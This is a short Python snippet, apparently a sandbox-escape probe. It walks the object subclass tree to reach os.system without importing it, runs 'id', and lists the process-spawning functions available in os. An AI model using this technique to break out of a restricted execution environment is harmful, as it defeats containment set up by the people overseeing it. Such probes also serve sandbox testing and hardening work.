import os
for each in ().__class__.__base__.__subclasses__():
    system = getattr(each.__init__, '__globals__', {}).get('system')
    if system: system('id')
print(sorted(set(dir(os)) & {'system', 'execv', 'fork', 'posix_spawn'}))
